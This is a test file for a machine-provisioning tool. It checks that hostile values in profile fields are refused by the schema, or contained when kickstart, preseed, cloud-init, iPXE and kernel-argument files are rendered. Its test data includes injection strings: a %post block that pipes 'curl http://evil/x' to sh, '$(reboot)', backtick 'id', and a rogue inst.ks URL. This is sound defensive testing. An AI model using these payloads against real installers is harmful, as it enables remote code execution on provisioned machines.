import path from 'node:path';
import YAML from 'yaml';
import { describe, expect, it } from 'vitest';
import { loadProfileDir } from '../../../../../main/profiles/load-dir.js';
import {
  RenderError,
  linuxBoot,
  maskedSecrets,
  renderIpxeInstall,
  renderMachineFile,
  type RenderContext,
} from '../../../../../main/profiles/render/index.js';
import { profileSchema, type Profile } from '../../../../../main/profiles/schema.js';

/**
 * Issue 13 item 7: hostile values in the profile fields that reach installer files and
 * command lines. Each must be refused by the schema (at its path), and a renderer given
 * one anyway (schema bypassed) must refuse it or keep it inside its own line and word.
 */
const root = path.join(import.meta.dirname, '../../../../..');
const valid = new Map<string, Profile>();
for (const dir of ['profiles', 'test/fixtures/profiles']) {
  for (const [id, r] of loadProfileDir(path.join(root, dir)).resolved) {
    if (r.ok) valid.set(id, r.profile);
  }
}
const byOs = (os: string): Profile => {
  const p = [...valid.values()].find((x) => x.target.os === os);
  if (!p) throw new Error(`no valid ${os} sample profile`);
  return p;
};

const hostile = [
  'x\n%post\ncurl http://evil/x | sh\n%end',
  'x\r\nd-i preseed/late_command string reboot',
  'a b',
  'a\tb',
  '${net0/ip}',
  'x${root-path}',
  'a$(reboot)',
  'a`id`',
  "a'b",
  'a"b',
  'a\\b',
  'x\u2028y',
  'x\u0000y',
  'http://x/ inst.ks=http://evil/ks.cfg',
  'http://x/&& chain http://evil/',
];

type Setter = (p: Profile, v: string) => void;
/** [field, os, setter, benign value] */
const fields: [string, string, Setter, string][] = [
  [
    'target.packages',
    'fedora',
    (p, v) => ((p.target as { packages: string[] }).packages = [v]),
    'vim',
  ],
  [
    'target.packages',
    'debian',
    (p, v) => ((p.target as { packages: string[] }).packages = [v]),
    'vim',
  ],
  [
    'target.packages',
    'ubuntu',
    (p, v) => ((p.target as { packages: string[] }).packages = [v]),
    'vim',
  ],
  ['locale.timezone', 'fedora', (p, v) => (p.locale.timezone = v), 'Europe/Berlin'],
  ['locale.timezone', 'debian', (p, v) => (p.locale.timezone = v), 'Europe/Berlin'],
  ['locale.timezone', 'ubuntu', (p, v) => (p.locale.timezone = v), 'Europe/Berlin'],
  [
    'target.repo',
    'fedora',
    (p, v) => ((p.target as { repo: string }).repo = v),
    'http://m.example/f/',
  ],
  ['target.media', 'fedora', (p, v) => ((p.target as { media: string }).media = v), 'fedora/41'],
  ['target.media', 'debian', (p, v) => ((p.target as { media: string }).media = v), 'debian/12'],
  ['target.iso', 'ubuntu', (p, v) => ((p.target as { iso: string }).iso = v), 'u/x.iso'],
  [
    'target.mirror.host',
    'debian',
    (p, v) => ((p.target as { mirror: { host: string } }).mirror.host = v),
    'deb.example',
  ],
  [
    'target.mirror.directory',
    'debian',
    (p, v) => ((p.target as { mirror: { directory: string } }).mirror.directory = v),
    '/debian',
  ],
  ['admin.fullName', 'fedora', (p, v) => (p.admin.fullName = v), 'Jane Doe'],
  ['admin.fullName', 'debian', (p, v) => (p.admin.fullName = v), 'Jane Doe'],
  ['admin.fullName', 'ubuntu', (p, v) => (p.admin.fullName = v), 'Jane Doe'],
];

const answerFile: Record<string, string> = {
  fedora: 'ks.cfg',
  debian: 'preseed.cfg',
  ubuntu: 'user-data',
};

function rcFor(profile: Profile, firmware: 'bios' | 'uefi'): RenderContext {
  return {
    profile,
    machine: { id: 'm-0001', macs: ['52:54:00:ab:cd:ef'] },
    token: 'TOKEN-abc123',
    stationUrl: 'http://192.168.50.1:8080',
    firmware,
    secrets: maskedSecrets,
    adminPassword: 'one-time-pw',
  };
}

/** Everything a Linux machine gets rendered: answer file, iPXE lines, kernel arguments. */
function renderAll(profile: Profile, firmware: 'bios' | 'uefi') {
  const rc = rcFor(profile, firmware);
  return {
    answer: renderMachineFile(answerFile[profile.target.os]!, rc)!.body,
    ipxe: renderIpxeInstall(rc),
    args: linuxBoot(rc).args,
  };
}

const withValue = (os: string, set: Setter, v: string): Profile => {
  const p = structuredClone(byOs(os));
  set(p, v);
  return p;
};

describe('hostile values in profile fields', () => {
  it.each(fields)('the schema refuses them in %s (%s)', (field, os, set) => {
    // A full name has spaces and quotes (Müller & Söhne 'Admin'); only line breaks and
    // control characters are hostile there, and every renderer quotes it for its format.
    const refused =
      field === 'admin.fullName' ? hostile.filter((v) => /\p{Cc}|\u2028/u.test(v)) : hostile;
    for (const v of refused) {
      const r = profileSchema.safeParse(withValue(os, set, v));
      expect(r.success, `${field} = ${JSON.stringify(v)}`).toBe(false);
      const paths = r.error!.issues.map((i) =>
        i.path.filter((x) => typeof x === 'string').join('.'),
      );
      expect(paths, JSON.stringify(v)).toContain(field);
    }
  });

  it.each(fields)(
    'every renderer refuses them or keeps them in place: %s (%s)',
    (field, os, set, benign) => {
      for (const firmware of ['bios', 'uefi'] as const) {
        const base = renderAll(withValue(os, set, benign), firmware);
        expect(profileSchema.safeParse(withValue(os, set, benign)).success, benign).toBe(true);
        for (const v of hostile) {
          let out: ReturnType<typeof renderAll>;
          try {
            out = renderAll(withValue(os, set, v), firmware);
          } catch (err) {
            expect(err, `${field} = ${JSON.stringify(v)}`).toBeInstanceOf(RenderError);
            expect((err as RenderError).code).toBe('bad_value');
            continue;
          }
          const what = `${field} = ${JSON.stringify(v)} (${firmware})`;
          // No new kernel argument, no new iPXE line, nothing for iPXE to expand.
          expect(out.args.length, what).toBe(base.args.length);
          const words = (args: string[]) => args.join(' ').split(/\s+/).length;
          expect(words(out.args), what).toBe(words(base.args));
          expect(out.ipxe.split('\n').length, what).toBe(base.ipxe.split('\n').length);
          expect(out.ipxe, what).not.toMatch(/\$\{/);
          if (os === 'ubuntu') {
            // YAML quotes by its own rules: the value comes back exactly where it was put.
            const doc = YAML.parse(out.answer.replace(/^#cloud-config\n/, '')) as {
              autoinstall: Record<string, unknown>;
            };
            const baseDoc = YAML.parse(base.answer.replace(/^#cloud-config\n/, '')) as {
              autoinstall: Record<string, unknown>;
            };
            expect(Object.keys(doc.autoinstall), what).toEqual(Object.keys(baseDoc.autoinstall));
            expect(doc.autoinstall['late-commands'], what).toEqual(
              baseDoc.autoinstall['late-commands'],
            );
          } else {
            // Kickstart and preseed are read line by line: the line count must not move.
            expect(out.answer.split('\n').length, what).toBe(base.answer.split('\n').length);
            expect(out.answer, what).not.toMatch(/^%post(?! --log)/m);
            // A space in a package name would install another package.
            const pkgsel = (a: string) =>
              /pkgsel\/include string (.*)/.exec(a)?.[1]?.split(' ').length;
            expect(pkgsel(out.answer), what).toBe(pkgsel(base.answer));
          }
        }
      }
    },
  );
});
